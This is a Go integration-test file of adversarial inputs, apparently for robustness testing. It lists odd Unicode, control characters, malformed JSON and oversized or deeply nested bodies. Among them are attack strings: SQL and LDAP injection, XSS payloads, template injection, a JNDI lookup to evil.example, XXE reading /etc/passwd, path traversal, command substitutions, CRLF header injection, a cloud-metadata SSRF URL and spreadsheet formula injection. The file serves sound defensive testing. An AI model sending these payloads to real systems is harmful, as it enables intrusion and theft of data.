package integration

import (
	"encoding/binary"
	"strings"
	"unicode/utf16"
)

// nasty are texts that programs have stumbled over: at parsing, at comparing, at printing and at passing on.
var nasty = []string{
	// nothing, and what looks like nothing
	"", " ", "\t", "\u00a0", "\u200b", "\ufeff", "\u2028", "\u3000", "null", "nil", "undefined", "None", "NaN", "true", "false", "[]", "{}", "()",
	// numbers
	"0", "-0", "-1", "00", "1e999", "1e-999", "0x7fffffff", "2147483648", "-9223372036854775809", "18446744073709551616", "0.1e1", "1_000", "１２３", "٣", "∞",
	strings.Repeat("9", 400),
	// control characters
	"\x00", "a\x00b", "\x01\x02\x03", "\x07", "\x08\x08\x08", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f", "\u0085", "a\rb", "a\nb", "a\r\nb", "\x0b\x0c",
	// direction and invisible marks
	"\u202eexe.txt", "\u2066a\u2069", "\u200fa", "a\u200db", "\u061c", "a\u0301\u0302\u0303", strings.Repeat("\u0300", 200), "\U000e0001\U000e0061", "\ufff9x\ufffa",
	// one look, several spellings
	"caf\u00e9", "cafe\u0301", "ﬁ", "K", "\u212a", "Å", "ß", "ẞ", "İstanbul", "ıstanbul", "аlice@demo.example", "alice@demo．example", "ａｌｉｃｅ", "ǆ", "Ω", "\u2126",
	// beyond the first plane, and what is no character
	"😀", "👨‍👩‍👧‍👦", "\U0010ffff", "\ufffe", "\uffff", "\ufffd", "𝓪𝓵𝓲𝓬𝓮", "שלום", "مرحبا", "田中", "ﷺ",
	// not UTF-8
	"\xff", "\xc0\x80", "\xe2\x28\xa1", "\xed\xa0\x80", "\xf5\x80\x80\x80", "a\x80b",
	// long
	strings.Repeat("a", 255), strings.Repeat("a", 4096), strings.Repeat("a", 60000), strings.Repeat("é", 2000), strings.Repeat("../", 300), strings.Repeat("a.", 1000) + "example",
	// SQL, LDAP, NoSQL
	"' OR '1'='1", "\" OR \"\"=\"", "'; DROP TABLE users; --", "1; SELECT pg_sleep(10)", "' UNION SELECT NULL--", "%' AND 1=1 --", "*)(uid=*))(|(uid=*", "{\"$gt\":\"\"}", "admin'/*",
	// HTML and script
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "javascript:alert(1)", "</title><h1>x", "<!--", "]]>", "&lt;b&gt;", "&#x3c;b&#x3e;",
	"<a href=//evil.example>x</a>", "\"autofocus onfocus=alert(1) x=\"", "</textarea><b>", "<style>*{}</style>", "data:text/html,<b>x",
	// templates and expressions
	"{{.}}", "{{printf \"%s\" .}}", "{{template \"x\"}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{env.HOME}", "{file./etc/passwd}", "{http.request.header.Cookie}", "{{env \"HOME\"}}", "${jndi:ldap://evil.example/a}",
	// formats
	"%s%s%s%s%n", "%d", "%!s(MISSING)", "%00", "%0d%0aX-Evil: 1", "%u0000", "%c0%ae%c0%ae/", "%", "%zz", "%25%32%65",
	// headers and addresses
	"x\r\nX-Evil: 1", "x\nSet-Cookie: a=b", "x\r\n\r\n<html>", "https://evil.example/", "//evil.example", "\\\\evil.example\\x", "http://169.254.169.254/latest/", "file:///etc/passwd",
	"https://user:pass@evil.example/", "https://id.example.com@evil.example/", "a@b@c", "@", "a@", "@b", "\"a b\"@demo.example", "a@[127.0.0.1]", "alice@demo.example\nbcc: eve@evil.example",
	// files and commands
	"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "CON", "nul.txt", "; ls -la", "| cat /etc/passwd", "$(id)", "`id`", "a && b", "\\", "\\\\", "/", "//", ".", "..", "~", "C:\\",
	// JSON, XML and others in a text
	"\"", "'", "{\"a\":1}", "\\u0000", "\\ud800", "\",\"admin\":true,\"x\":\"", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
	"__proto__", "constructor", "toString", "..;/", "a;b=c", "a=b&c=d", "a,b", "eyJhbGciOiJub25lIn0.e30.", "AAAA====", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----",
}

// broken are bodies that are no JSON, or that two readers would read differently.
var broken = []string{
	"", " ", "\n", "{", "}", "[", `{"a"`, `{"a":`, `{"a":1`, `{"a":1,}`, `{,}`, `{"a" 1}`, `{a:1}`, `{'a':1}`, `{"a":1}{"a":1}`, `{"a":1} x`, `{"a":1}]`, "// x\n{}", "{/**/}",
	`{"a":1,"a":2}`, `{"\u0061":1,"a":2}`, `{"a":{"b":1,"b":2}}`, `[1,2`, `"text"`, "7", "null", "true", "[]", `[{}]`,
	`{"a":1e999}`, `{"a":-1e999}`, `{"a":01}`, `{"a":.5}`, `{"a":+1}`, `{"a":0x10}`, `{"a":NaN}`, `{"a":Infinity}`, `{"a":` + strings.Repeat("9", 5000) + `}`,
	`{"a":"\x"}`, `{"a":"\u12"}`, `{"a":"\ud800"}`, `{"a":"\udc00\ud800"}`, "{\"a\":\"\x00\"}", "{\"a\":\"\n\"}", "{\"a\":\"\xff\"}", "{\"\xff\":1}", "\xff\xfe", "\x00\x00\x00\x00", "\x1f\x8b\x08\x00",
	"\ufeff{}", utf16Text("{}", binary.LittleEndian), utf16Text("{}", binary.BigEndian),
	strings.Repeat("[", 10_000), strings.Repeat(`{"a":`, 10_000), strings.Repeat("[", 30_000) + strings.Repeat("]", 30_000), `{"a":[` + strings.Repeat("1,", 30_000) + `1]}`,
	`{"a":"` + strings.Repeat("a", 64<<10) + `"}`, strings.Repeat(" ", 65<<10) + "{}", `{` + strings.Repeat(`"a":1,`, 5000) + `"b":1}`,
	"a=b", "a=b&a=c", "%", "%zz=1", "a=%ff", "a;b", strings.Repeat("a=b&", 10_000), strings.Repeat("&", 10_000), "=", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--",
}

// utf16Text is text with its byte order mark.
func utf16Text(text string, order binary.AppendByteOrder) string {
	out := order.AppendUint16(nil, 0xfeff)
	for _, unit := range utf16.Encode([]rune(text)) {
		out = order.AppendUint16(out, unit)
	}
	return string(out)
}
